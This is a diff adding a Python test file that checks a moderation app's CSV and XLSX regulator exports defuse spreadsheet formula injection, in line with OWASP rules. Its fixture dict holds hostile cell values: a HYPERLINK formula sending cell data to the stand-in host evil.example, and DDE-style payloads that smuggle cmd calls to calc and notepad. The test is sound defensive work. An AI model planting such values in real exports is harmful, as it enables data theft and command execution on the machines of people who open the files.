@@ -1,0 +1,74 @@
+"""Exports are opened in spreadsheets by regulators: no value may run as a formula there.
+
+Producers (stream, host and merchant ids, titles) and moderators (decision reasons) control
+text that ends up in CSV and XLSX cells; OWASP's CSV-injection rules say a cell starting with
+``= + - @``, tab or carriage return must be neutralised.
+"""
+
+from __future__ import annotations
+
+import csv
+import io
+
+from liveguard.alerts.crud import cases, users
+from liveguard.alerts.ingestion import ingest_events
+
+HOSTILE = {
+    "host": '=HYPERLINK("http://evil.example/?x="&A1,"click")',
+    "merchant": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "reason": "+1+cmd|' /C notepad'!A0",
+    "stream": "-2+3",
+}
+
+
+def _seed(api, events, settings) -> None:
+    with api.client.app.state.sessionmaker() as s:
+        ingest_events(
+            s,
+            [
+                events.finding(
+                    stream_id=HOSTILE["stream"], host=HOSTILE["host"], merchant=HOSTILE["merchant"]
+                )
+            ],
+            settings,
+        )
+        mod = users.get_user(s, "moderator")
+        assert mod is not None
+        case_id = cases.list_cases(s).items[0].id
+        cases.claim_case(s, case_id, mod, 600)
+        cases.decide_case(s, case_id, mod, "dismiss", HOSTILE["reason"])
+
+
+def _dangerous(value: object) -> bool:
+    return isinstance(value, str) and value[:1] in ("=", "+", "-", "@", "\t", "\r")
+
+
+def test_csv_export_neutralises_formulas(api, events, settings):
+    _seed(api, events, settings)
+    r = api.client.get("/api/reports/export?format=csv", headers=api.as_("regulator"))
+    assert r.status_code == 200
+    rows = list(csv.DictReader(io.StringIO(r.content.decode("utf-8-sig"))))
+    assert len(rows) == 1
+    cells = [v for row in rows for v in row.values()]
+    assert not [c for c in cells if _dangerous(c)], cells
+    # the text survives, only defused: a reader still sees what the host's id was
+    assert rows[0]["host_id"] == "'" + HOSTILE["host"]
+    assert rows[0]["decision_reason"] == "'" + HOSTILE["reason"]
+    assert rows[0]["stream_id"] == "'" + HOSTILE["stream"]
+
+
+def test_xlsx_export_has_no_formula_cells(api, events, settings):
+    from openpyxl import load_workbook
+
+    _seed(api, events, settings)
+    r = api.client.get("/api/reports/export?format=xlsx", headers=api.as_("regulator"))
+    assert r.status_code == 200
+    sheet = load_workbook(io.BytesIO(r.content)).active
+    assert sheet is not None
+    cells = [c for row in sheet.iter_rows() for c in row]
+    assert [c.coordinate for c in cells if c.data_type == "f"] == []
+    values = [c.value for c in cells]
+    assert not [v for v in values if _dangerous(v)], values
+    assert "'" + HOSTILE["merchant"] in values
+    # numbers stay numbers (a negative count would not be text to defuse)
+    assert any(isinstance(v, int) for v in values)
